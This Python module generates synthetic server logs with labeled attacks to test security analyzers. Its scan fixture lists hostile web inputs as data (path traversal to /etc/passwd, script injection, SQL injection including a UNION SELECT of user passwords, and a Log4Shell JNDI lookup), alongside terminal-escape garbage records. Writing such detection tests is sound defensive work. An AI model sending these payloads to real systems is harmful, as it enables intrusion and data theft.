"""Made-up logs with known findings: a seed → records in order of time, each with the analyzer that must fire at it.

Most of it is everyday: people log in by SSH and to an application, and browse. Among them go attacks that must be found, others
that must not (too slow, failed, nearly alike), and records that nobody can read. Pure: chance and time are arguments. The labels
are true for the analyzers that come along, with their default options.
"""

from __future__ import annotations

from collections.abc import Callable, Iterable, Iterator
from datetime import UTC, datetime
from itertools import count as endless
from random import Random
from typing import Any, NamedTuple

from ..options import Duration

__all__ = ["LEAST", "SPACING", "Item", "Record", "generate"]

Record = dict[str, Any]
_Line = Callable[[int], Record]
"""A record that still lacks its time, in ns: most write it into their text."""


class Item(NamedTuple):
    """One record: its tag, when it happened (ns UTC), and the analyzer that must fire at just this one, or None."""

    tag: str
    time: int
    record: Record
    label: str | None = None


SPACING = Duration.of("1.2s").ns
"""How far records lie apart on the average: more records are a longer stretch of time, never a denser one."""
LEAST = 1000
"""Fewer records than this leave the attacks no time to be what they are."""

_SECOND = Duration(1).ns
_SSH, _APP, _WEB = "auth.sshd", "app.login", "web.access"
_NAMES = (
    "alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy", "karl", "lena", "mona", "nils", "olga", "paul",
    "quinn", "rosa", "sven", "tina", "ulf", "vera", "wim", "xenia", "yuri", "zoe", "anton", "berta", "cilia", "doris", "emil", "fritz",
    "gerda", "hugo", "ida", "jonas", "klara", "leo", "marta", "nora",
)  # fmt: skip
_GUESSES = (
    "admin", "root", "test", "oracle", "postgres", "ubuntu", "git", "deploy", "backup", "pi", "nagios", "ftp", "www-data", "jenkins",
    "minecraft",
)  # fmt: skip
_FORGED = ("from 1.1.1.1", "root from 1.1.1.1 port 22 ssh2", "admin from 2001:db8::1", "x from 1.1.1.1 port 1 ssh2: RSA", "invalid user")
_HOMES = ("NL", "NL", "NL", "DE", "DE", "BE", "FR", "DK", "SE", "ES")
_ABROAD = ("BR", "VN", "ZA", "NZ")
_AGENTS = (
    "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/604.1",
)
_PAGES = (
    "/", "/about", "/products", "/products/17", "/products/42?ref=home", "/basket", "/search?q=blue+teapot",
    "/search?q=java+script+course", "/search?q=trade+union+jobs", "/static/site.css", "/static/site.js", "/images/logo.svg",
    "/blog/2026/etc", "/docs/passwd-policy", "/favicon.ico",
)  # fmt: skip
_SCAN = (  # target, agent, whether it is known to be bad
    ("/robots.txt", "", False), ("/.env", "", False), ("/.git/config", "", True), ("/admin/", "", False), ("/wp-login.php", "", True),
    ("/download?file=../../../../etc/passwd", "", True), ("/phpmyadmin/", "", False), ("/static/..%2f..%2f..%2fetc%2fpasswd", "", True),
    ("/search?q=%3CScript%3Ealert(1)%3C/script%3E", "", True), ("/item?id=7", "", False), ("/item?id=1%27%20or%20%271%27=%271", "", True),
    ("/item?id=1+UNION+SELECT+name,password+FROM+users", "", True), ("/", "${jndi:ldap://192.0.2.1/a}", True),
    ("/server-status", "", False),
)  # fmt: skip
_ODD: tuple[Record, ...] = (
    {}, {"message": None}, {"message": 42}, {"message": ["a", {"b": None}]}, {"message": b"\xff\xfe\x00sshd"}, {"message": "A" * 9000},
    {"message": "\x1b[2J\x07\u202e sshd[1]: Accepted"}, {"log": "GET /../../etc/passwd HTTP/1.1"},
    {"event": "authentication", "user": 7, "source": []},
    {"event.category": [["authentication"]], "event.outcome": {"is": "success"}, "user.name": "", "source.geo.country_iso_code": None},
)  # fmt: skip


class _Person(NamedTuple):
    name: str
    address: str
    country: str


def generate(rng: Random, count: int, start: int) -> list[Item]:
    """`count` records (at least `LEAST`) from `start` (ns UTC) on, `count * SPACING` long, no two at the same time."""
    if count < LEAST:
        raise ValueError(f"expected at least {LEAST} records, got {count}")
    span = count * SPACING
    people = [_person(n, name) for n, name in enumerate(_NAMES)]
    made = list(_incidents(rng, people, start, span))
    rest = count - len(made)
    shares = {"web": rest * 45 // 100, "app": rest * 17 // 100, "odd": rest * 2 // 100}
    shares["ssh"] = rest - sum(shares.values())
    streams = {"web": _browsing(rng), "app": _logins(rng, people), "odd": _garbage(rng), "ssh": _sessions(rng, people)}
    for name, stream in streams.items():
        made += (Item(tag, time, line(time)) for time, (tag, line) in zip(_times(rng, shares[name], start, span), stream, strict=False))
    return _apart(sorted(made, key=lambda item: item.time))


def _person(n: int, name: str) -> _Person:
    address = f"2001:db8:7::{n + 1:x}" if n % 5 == 4 else f"198.51.100.{n + 11}"
    return _Person(name, address, _HOMES[n % len(_HOMES)])


def _times(rng: Random, count: int, start: int, span: int) -> Iterator[int]:
    """`count` times, one in each equal part of the span: by chance, but never many at once."""
    for n in range(count):
        yield start + int(span * (n + rng.random()) / count)


def _apart(items: list[Item]) -> list[Item]:
    """The same, each at least a nanosecond after the one before: equal records at equal times would be one event."""
    last = 0
    for n, item in enumerate(items):
        if item.time <= last:
            items[n] = item._replace(time=last + 1)
        last = items[n].time
    return items


# --- what must be found, and what only looks like it ---


def _incidents(rng: Random, people: list[_Person], start: int, span: int) -> Iterator[Item]:
    def at(low: float, high: float) -> int:
        return start + int(span * rng.uniform(low, high))

    first, second, slow, scanner = rng.sample(range(1, 255), 4)
    yield from _bruteforce(rng, at(0.20, 0.35), f"192.0.2.{first}", _GUESSES * 2)
    yield from _bruteforce(rng, at(0.65, 0.80), f"2001:db8:bad::{second:x}", _FORGED * 5)
    yield from _slow(rng, start, start + span, f"192.0.2.{slow}")
    yield from _scan(rng, at(0.40, 0.85), f"192.0.2.{scanner}")
    for person, country in zip(rng.sample(people, 2), rng.sample(_ABROAD, 2), strict=True):
        yield from _journey(rng, person, country, (at(0.0, 0.1), at(0.3, 0.5), at(0.6, 0.8), at(0.8, 0.99)))


def _bruteforce(rng: Random, time: int, address: str, names: Iterable[str]) -> Iterator[Item]:
    """One guess every few seconds, all within ten minutes; the tenth failure is one too many."""
    for n, name in enumerate(names, 1):
        pid, end = rng.randrange(1000, 60000), f"from {address} port {rng.randrange(1024, 65536)}"
        yield Item(_SSH, time, _sshd(pid, f"Invalid user {name} {end}")(time))
        time += rng.randrange(_SECOND)
        label = "ssh_bruteforce" if n == 10 else None
        yield Item(_SSH, time, _sshd(pid, f"Failed password for invalid user {name} {end} ssh2")(time), label)
        time += rng.randrange(1 * _SECOND, 5 * _SECOND)


def _slow(rng: Random, time: int, end: int, address: str) -> Iterator[Item]:
    """As many guesses as there is time for, but never ten within ten minutes."""
    while (time := time + rng.randrange(67 * _SECOND, 90 * _SECOND)) < end:
        body = f"Failed password for root from {address} port {rng.randrange(1024, 65536)} ssh2"
        yield Item(_SSH, time, _sshd(rng.randrange(1000, 60000), body)(time))


def _scan(rng: Random, time: int, address: str) -> Iterator[Item]:
    for target, agent, bad in _SCAN:
        time += rng.randrange(_SECOND // 5, 3 * _SECOND)
        record = _access(address, target, 404, 153, agent or "Mozilla/5.0 zgrab/0.x")(time)
        yield Item(_WEB, time, record, "web_signatures" if bad else None)


def _journey(rng: Random, person: _Person, country: str, times: Iterable[int]) -> Iterator[Item]:
    """A login at home, then several from abroad: only the first of those is news."""
    address = f"100.64.{rng.randrange(256)}.{rng.randrange(1, 255)}"
    for n, time in enumerate(times):
        here = _Person(person.name, address, country) if n else person
        yield Item(_APP, time, _login(here, "success", flat=n == 2)(time), "new_country" if n == 1 else None)


# --- everyday life, without end ---


def _sessions(rng: Random, people: list[_Person]) -> Iterator[tuple[str, _Line]]:
    """SSH sessions. Everybody comes once before anyone comes again, so that nobody's typos look like an attack."""
    for person in _rounds(rng, people):
        pid, place = rng.randrange(1000, 60000), f"{person.address} port {rng.randrange(1024, 65536)}"
        who, key = f"for {person.name} from {place} ssh2", rng.random() < 0.7
        bodies = [
            f"Accepted publickey {who}: ED25519 SHA256:{rng.getrandbits(128):032x}" if key else f"Accepted password {who}",
            f"pam_unix(sshd:session): session opened for user {person.name}(uid=1000) by (uid=0)",
            f"Disconnected from user {person.name} {place}",
        ]
        if rng.random() < 0.06:
            bodies.insert(0, f"Failed password {who}")
        yield from ((_SSH, _sshd(pid, body)) for body in bodies)


def _logins(rng: Random, people: list[_Person]) -> Iterator[tuple[str, _Line]]:
    """Logins to the application from home; now and then somebody abroad guesses a password, in vain."""
    for person in _rounds(rng, people):
        if rng.random() < 0.05:
            stranger = _Person(person.name, f"100.64.0.{rng.randrange(1, 255)}", rng.choice(_ABROAD))
            yield _APP, _login(stranger, "failure", flat=False)
        yield _APP, _login(person, "success", flat=rng.random() < 0.3)


def _browsing(rng: Random) -> Iterator[tuple[str, _Line]]:
    while True:
        address, agent = f"203.0.113.{rng.randrange(1, 255)}", rng.choice(_AGENTS)
        for page in rng.choices(_PAGES, k=rng.randrange(2, 9)):
            yield _WEB, _access(address, page, rng.choice((200, 200, 200, 200, 304, 404)), rng.randrange(200, 40_000), agent)


def _garbage(rng: Random) -> Iterator[tuple[str, _Line]]:
    """What shippers send on bad days: lines cut off, nothing, the wrong types, bytes that a terminal would act on."""
    for n in endless():
        address, tag = f"198.51.100.{200 + n % 50}", rng.choice((_SSH, _APP, _WEB))
        failed = _sshd(n % 60000, f"Failed password for root from {address} port 50000 ssh2")
        whole = failed if tag == _SSH else _access(address, "/", 200, 7, "-")
        yield tag, _cut(whole, rng.random()) if rng.random() < 0.5 else _given(rng.choice(_ODD))


def _rounds(rng: Random, people: list[_Person]) -> Iterator[_Person]:
    while True:
        yield from rng.sample(people, len(people))


# --- records ---


def _sshd(pid: int, body: str) -> _Line:
    def line(time: int) -> Record:
        when = _utc(time)
        return {"message": f"{when:%b} {when.day:2} {when:%H:%M:%S} bastion1 sshd[{pid}]: {body}"}

    return line


def _access(address: str, target: str, status: int, size: int, agent: str) -> _Line:
    """nginx's combined format."""
    rest = f'"GET {target} HTTP/1.1" {status} {size} "-" "{agent}"'
    return lambda time: {"message": f"{address} - - [{_utc(time):%d/%b/%Y:%H:%M:%S} +0000] {rest}"}


def _login(person: _Person, outcome: str, *, flat: bool) -> _Line:
    """A login in ECS names, nested or `flat` with dots, as shippers write both."""
    if flat:
        return _given({"event.category": "authentication", "event.outcome": outcome, "user.name": person.name, "source.ip": person.address,
                       "source.geo.country_iso_code": person.country})  # fmt: skip
    return _given({"event": {"category": ["authentication"], "outcome": outcome}, "user": {"name": person.name},
                   "source": {"ip": person.address, "geo": {"country_iso_code": person.country}}})  # fmt: skip


def _given(record: Record) -> _Line:
    return lambda _: record


def _cut(line: _Line, part: float) -> _Line:
    def cut(time: int) -> Record:
        message = line(time)["message"]
        return {"message": message[: int(len(message) * part)]}

    return cut


def _utc(time: int) -> datetime:
    return datetime.fromtimestamp(time // 1_000_000_000, UTC)
